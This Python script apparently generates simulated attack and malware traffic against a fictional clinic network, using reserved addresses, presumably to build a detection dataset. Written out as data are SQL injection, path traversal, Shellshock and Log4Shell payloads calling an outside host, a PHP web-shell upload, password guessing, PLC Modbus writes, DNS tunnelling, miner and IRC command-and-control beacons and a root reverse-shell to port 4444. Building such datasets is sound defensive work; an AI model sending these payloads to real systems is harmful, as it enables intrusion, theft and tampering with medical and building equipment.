#!/usr/bin/env python3
"""What attackers (outside) and infected machines (inside) of the recording say, without the tools that record.sh calls.

attacks.py outside   against the clinic        attacks.py inside   from the clinic
"""

import struct
import sys

from wire import DICE, datagram, lookup, talk

WEB, WEB6, FILES, IMAGING = "10.20.30.10", "2001:db8:20:30::10", "10.20.30.11", "10.20.30.12"
PLC, DESK, PRINTER = "10.20.30.14", "10.20.30.15", "10.20.30.16"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def web(src, dst, path, method="GET", agent=BROWSER, header="", body=b"", port=80, host="portal.clinic.example"):
    head = f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: */*\r\n{header}"
    if body:
        head += f"Content-Type: multipart/form-data; boundary=cut\r\nContent-Length: {len(body)}\r\n"
    talk(src, dst, port, head.encode() + b"\r\n" + body)


def against_web():
    for src in ("203.0.113.45", "198.51.100.23"):
        for path in ("/", "/robots.txt", "/phpmyadmin/index.php", "/.git/config", "/.env", "/backup.zip"):
            web(src, WEB, path, agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)" if src.startswith("203") else BROWSER)
    for n in range(4):
        web("203.0.113.45", WEB, f"/patients?id={n}%20UNION%20ALL%20SELECT%20login,hash%20FROM%20users--", agent="sqlmap/1.8.4#stable")
        web("203.0.113.45", WEB, f"/patients?name=x'%20OR%20{n}={n}--", agent="sqlmap/1.8.4#stable")
    web("2001:db8:bad::66", WEB6, "/patients?id=9+union+select+1,2,3", host="[2001:db8:20:30::10]")
    web("2001:db8:bad::66", WEB6, "/.env", host="[2001:db8:20:30::10]")
    for src, dst in (("198.51.100.23", WEB), ("203.0.113.131", IMAGING), ("192.0.2.66", PRINTER)):
        web(src, dst, "/../../../../etc/passwd")
        web(src, dst, "/view?file=../../../../etc/passwd" if dst == WEB else "/view?name=/etc/passwd")
        web(src, dst, "/search?q=<script>alert(1)</script>".replace(" ", "+"))
    for src in ("203.0.113.131", "192.0.2.66"):
        web(src, WEB, "/cgi-bin/status", header="Referer: () { :;}; /bin/ping -c 1 203.0.113.99\r\n")
    web("203.0.113.131", WEB, "/", header="X-Api-Version: ${jndi:ldap://203.0.113.99:1389/a}\r\n", port=8080)
    shell = b'--cut\r\nContent-Disposition: form-data; name="f"; filename="photo.php"\r\n\r\n<?php system($_GET["cmd"]); ?>\r\n--cut--\r\n'
    web("203.0.113.131", WEB, "/upload", "POST", body=shell)
    for command in ("id", "uname%20-a", "cat%20config.php"):
        web("203.0.113.131", WEB, f"/uploads/photo.php?cmd={command}")
    for method in ("TRACE", "PROPFIND", "DEBUG"):
        web("192.0.2.66", WEB, "/", method)
    for n in range(9):
        web("198.51.100.23", WEB, "/login", "POST", body=f"user=admin&password=Spring{2018 + n}".encode())
    for src, dst in (("10.20.40.51", PRINTER), ("10.20.40.52", PRINTER), ("10.20.40.53", IMAGING)):
        web(src, dst, "/status", header="Authorization: Basic YWRtaW46YWRtaW4=\r\n")
        web(src, dst, "/settings", header="Authorization: Basic YWRtaW46YWRtaW4=\r\n")


def against_services():
    for n, password in enumerate(("admin", "ftp", "backup", "Winter24", "clinic", "welcome1")):
        talk("198.51.100.23", FILES, 21, b"USER scanner\r\n", f"PASS {password}\r\n".encode(), greeted=True)
        if n % 2:
            talk("10.20.40.51", FILES, 21, b"USER scanner\r\n", b"PASS welcome1\r\n", b"QUIT\r\n", greeted=True)
    for src in ("203.0.113.45", "10.20.40.52"):
        talk(src, PLC, 23, b"admin\r\n", b"hvac\r\n", b"id\r\n", greeted=True)
    for src, dst in (("203.0.113.7", DESK), ("203.0.113.7", "10.20.30.21"), ("192.0.2.66", DESK), ("10.20.40.53", DESK)):
        talk(src, dst, 3389, b"\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00Cookie: mstshash=administr\r\n\x01\x00\x08\x00\x00\x00\x00\x00")
    negotiate = b"\x00\x00\x00\x2f\xffSMB\x72\x00\x00\x00\x00\x18\x01\x28" + bytes(20) + b"\x00\x0c\x00\x02NT LM 0.12\x00"
    for src, dst in (("10.20.40.52", FILES), ("10.20.40.52", DESK), ("10.20.40.53", FILES), ("203.0.113.7", FILES)):
        path = f"\\\\{dst}\\ADMIN$".encode("utf-16-le") + b"\x00\x00"
        share = b"\xffSMB\x75\x00\x00\x00\x00\x18\x01\x28" + bytes(20) + b"\x04\xff\x00\x00\x00\x00\x00\x01\x00"
        share += struct.pack("<H", len(path) + 7) + b"\x00" + path + b"?????\x00"
        talk(src, dst, 445, negotiate, struct.pack(">I", len(share)) + share)
    talk("203.0.113.45", FILES, 6379, b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n")
    for src in ("203.0.113.45", "192.0.2.66"):
        talk(src, IMAGING, 5900, b"RFB 003.008\n", greeted=True)
    talk("198.51.100.77", WEB, 25, b"EHLO scan.example\r\n", b"VRFY root\r\n", b"VRFY reception\r\n", b"QUIT\r\n", greeted=True)
    for src in ("10.20.40.52", "10.20.40.53"):
        talk(src, FILES, 389, b"\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00")
    for src in ("203.0.113.7", "10.20.40.53", "198.51.100.77"):
        datagram(src, IMAGING, 161, bytes.fromhex("302902010104067075626c6963a01c02042b5f1c3a020100020100300e300c06082b060102010101000500"))
        datagram(src, WEB, 123, b"\x17\x00\x03\x2a" + bytes(44))
    datagram("203.0.113.7", PRINTER, 69, b"\x00\x01startup-config\x00octet\x00")


def against_machines():
    for n in range(6):
        talk("10.20.40.51", PLC, 502, struct.pack(">HHHBBHH", n, 0, 6, 1, 3, 100 + n, 2))
    for n in range(2):
        talk("10.20.40.52", PLC, 502, struct.pack(">HHHBBHH", n, 0, 6, 1, 5, 12 + n, 0xFF00))
    talk("203.0.113.45", PLC, 502, struct.pack(">HHHBBHH", 7, 0, 6, 1, 5, 3, 0))
    call = struct.pack(">HH16s16s32x", 1, 0, b"PACS            ", b"ANYONE          ")
    for src in ("10.20.40.53", "198.51.100.77"):
        talk(src, IMAGING, 104, b"\x01\x00" + struct.pack(">I", len(call)) + call)
    for src in ("10.20.40.51", "10.20.40.52", "192.0.2.66"):
        talk(src, PLC, 1883, b"\x10\x10\x00\x04MQTT\x04\x02\x00\x3c\x00\x04boil")
    talk("10.20.40.52", PRINTER, 9100, b'\x1b%-12345X@PJL RDYMSG DISPLAY="CALL 555-0100"\r\n')


def from_the_clinic():
    for src in ("10.20.30.21", "10.20.30.22"):
        for _ in range(5):
            lookup(src, "".join(DICE.choice("bcdfghjklmnpqrstvwxz0123456789") for _ in range(18)) + ".example")
    for n in range(7):
        lookup("10.20.30.23", "".join(DICE.choice("0123456789abcdef") for _ in range(60)) + f".{n}.tunnel.example", 16)
    for src in ("10.20.30.21", "10.20.30.22", "10.20.30.23", "10.20.30.24"):
        for name in ("www.example", "mail.clinic.example", "fileshare.example", "updates.vendor.example"):
            lookup(src, name)
    for name in ("eu.pool.somecoin.example", "home.dyn.example", "node.cdn-telemetry.example"):
        for src in ("10.20.30.22", "10.20.30.24"):
            lookup(src, name)
    for n in range(7):
        web("10.20.30.21", "203.0.113.99", f"/gate.php?id=W7-{n:04d}", agent="Mozilla/4.0", host="gate.example")
    for src in ("10.20.30.21", "10.20.30.24"):
        web(src, "198.51.100.77", "/test/antivirus", host="download.example")
        web(src, "198.51.100.77", "/tools/viewer-setup.exe", host="download.example")
    for src, agent in (("10.20.30.12", "curl/8.9.1"), ("10.20.30.10", "Wget/1.21.3"), ("10.20.30.23", "python-urllib/3.11")):
        for path in ("/", "/index.html", "/news"):
            web(src, "198.51.100.77", path, agent=agent, host="mirror.example")
    hello = b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n'
    for src in ("10.20.30.22", "10.20.30.22", "10.20.30.12"):
        talk(src, "203.0.113.99", 3333, hello)
    for src, dst in (("10.20.30.23", "203.0.113.99"), ("10.20.30.24", "198.51.100.77"), ("10.20.30.23", "198.51.100.77")):
        talk(src, dst, 9001, b"\x16\x03\x01\x00\x02\x01\x00")
    talk("10.20.30.22", "203.0.113.99", 6667, b"NICK w7\r\nUSER w 0 * :w\r\n", greeted=True)
    talk("10.20.30.10", "203.0.113.99", 4444, b"uid=0(root) gid=0(root) groups=0(root)\n", greeted=True)


if sys.argv[1] == "outside":
    against_web()
    against_services()
    against_machines()
else:
    from_the_clinic()
